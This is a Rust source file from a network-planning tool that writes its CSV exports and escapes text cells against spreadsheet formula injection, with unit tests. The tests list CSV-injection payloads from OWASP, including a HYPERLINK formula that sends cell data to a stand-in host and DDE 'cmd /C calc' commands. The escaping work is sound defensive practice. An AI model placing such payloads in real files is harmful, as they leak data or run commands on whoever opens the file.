//! The one writer of railyard's CSV files (cabling plan, NetBox import, port maps, BOM, address
//! plan) and the one escape of their text cells.
//!
//! Spreadsheets read a cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return as a
//! formula (OWASP, "CSV Injection"): a device, port or model text from a spec could make
//! `cabling.csv` run a formula on the installer's machine. As OWASP advises, such a text cell is
//! written with a leading `'`, which spreadsheets take as "this is text". A text that already
//! begins with `'` gets one more, so the escape is reversible: [`uncell`] strips exactly the
//! quote [`cell`] added, and the report and workbook, which read the CSV files back, show the
//! names as the spec, the labels and the configs have them. Numeric columns (lengths, planes,
//! rails, quantities) are written as numbers, never quoted.
//!
//! Every row has the header's width; anything else is an error of the writer, never a short row.

use std::borrow::Cow;

/// The first characters a spreadsheet reads as the start of a formula (OWASP), and `'` itself,
/// so that [`uncell`] can tell an added quote from one of the text.
const NEUTRALISED: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\''];

/// A text cell as written: `'` before a text that begins with a formula character (or `'`).
pub fn cell(text: &str) -> Cow<'_, str> {
    if text.starts_with(NEUTRALISED) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// A cell as read back: the text [`cell`] was given (the one quote it added removed).
pub fn uncell(field: &str) -> &str {
    match field.strip_prefix('\'') {
        Some(rest) if rest.starts_with(NEUTRALISED) => rest,
        _ => field,
    }
}

/// A column of a CSV file: its header and whether its values are numbers.
#[derive(Clone, Copy, Debug)]
pub struct Column {
    pub name: &'static str,
    pub number: bool,
}

impl Column {
    pub const fn text(name: &'static str) -> Self {
        Self {
            name,
            number: false,
        }
    }

    pub const fn number(name: &'static str) -> Self {
        Self { name, number: true }
    }
}

/// Why a CSV file could not be written (a bug in railyard: a row of the wrong width).
#[derive(Debug)]
pub struct CsvError(String);

impl std::fmt::Display for CsvError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "cannot write CSV: {}", self.0)
    }
}

impl std::error::Error for CsvError {}

/// A CSV file being written: the header first, then rows of exactly its width, `\n` line ends.
pub struct Writer {
    out: csv::Writer<Vec<u8>>,
    columns: Vec<Column>,
    /// The first failure; [`Writer::finish`] returns it instead of the bytes.
    failed: Option<CsvError>,
    /// Reused for every row.
    record: Vec<String>,
}

impl Writer {
    pub fn new(columns: &[Column]) -> Self {
        let mut w = Self {
            out: csv::WriterBuilder::new()
                .terminator(csv::Terminator::Any(b'\n'))
                .from_writer(Vec::new()),
            columns: columns.to_vec(),
            failed: None,
            record: Vec::with_capacity(columns.len()),
        };
        let header: Vec<&str> = columns.iter().map(|c| c.name).collect();
        w.row(header.iter().copied());
        w
    }

    /// One row: text cells through [`cell`], numeric cells as they are when they are numbers
    /// (anything else in a numeric column is escaped as text).
    pub fn row<'a>(&mut self, cells: impl IntoIterator<Item = &'a str>) {
        if self.failed.is_some() {
            return;
        }
        self.record.clear();
        for (i, value) in cells.into_iter().enumerate() {
            let number = self.columns.get(i).is_some_and(|c| c.number)
                && (value.is_empty() || value.parse::<f64>().is_ok_and(f64::is_finite));
            self.record.push(if number {
                value.to_string()
            } else {
                cell(value).into_owned()
            });
        }
        if self.record.len() != self.columns.len() {
            self.failed = Some(CsvError(format!(
                "a row of {} cells under a header of {}",
                self.record.len(),
                self.columns.len()
            )));
            return;
        }
        if let Err(e) = self.out.write_record(&self.record) {
            self.failed = Some(CsvError(e.to_string()));
        }
    }

    /// The file's bytes, or the first failure.
    pub fn finish(self) -> Result<Vec<u8>, CsvError> {
        if let Some(e) = self.failed {
            return Err(e);
        }
        self.out
            .into_inner()
            .map_err(|e| CsvError(e.error().to_string()))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The examples of OWASP's "CSV Injection" page, and the characters it lists.
    #[test]
    fn formula_cells_are_neutralised_as_owasp_advises() {
        let hostile = [
            "=1+2\";=1+2",
            "=1+2'\" ;,=1+2",
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Error: click for details\")",
            "=cmd|' /C calc'!A0",
            "+1+2",
            "-1+2",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "\t=1+2",
            "\r=1+2",
        ];
        for text in hostile {
            let c = cell(text);
            assert_eq!(c, format!("'{text}"), "{text:?}");
            assert_eq!(uncell(&c), text);
        }
        for plain in ["leaf01", "swp1s0", "10.0.0.1/31", "fd00::1/127", "", " =x"] {
            assert_eq!(cell(plain), plain);
            assert_eq!(uncell(plain), plain);
        }
        // A text that begins with a quote keeps it: one more is added and removed again.
        assert_eq!(cell("'=x"), "''=x");
        assert_eq!(uncell(&cell("'=x")), "'=x");
        assert_eq!(uncell(&cell("'plain")), "'plain");
    }

    /// What the csv crate reads back: the neutralised text in its cell, numbers as numbers, every
    /// row of the header's width.
    #[test]
    fn rows_read_back_with_their_cells() {
        let mut w = Writer::new(&[Column::text("name"), Column::number("length_m")]);
        w.row(["=cmd|' /C calc'!A0", "-2.5"]);
        w.row(["-leaf", ""]);
        w.row(["x", "=1+2"]);
        let bytes = w.finish().unwrap();
        let mut r = csv::Reader::from_reader(&bytes[..]);
        assert_eq!(r.headers().unwrap(), vec!["name", "length_m"]);
        let rows: Vec<Vec<String>> = r
            .records()
            .map(|x| x.unwrap().iter().map(str::to_string).collect())
            .collect();
        assert_eq!(
            rows,
            [
                ["'=cmd|' /C calc'!A0", "-2.5"],
                ["'-leaf", ""],
                ["x", "'=1+2"],
            ]
        );
    }

    #[test]
    fn a_row_of_another_width_is_an_error() {
        let mut w = Writer::new(&[Column::text("a"), Column::text("b")]);
        w.row(["1"]);
        let e = w.finish().unwrap_err();
        assert_eq!(
            e.to_string(),
            "cannot write CSV: a row of 1 cells under a header of 2"
        );
    }
}
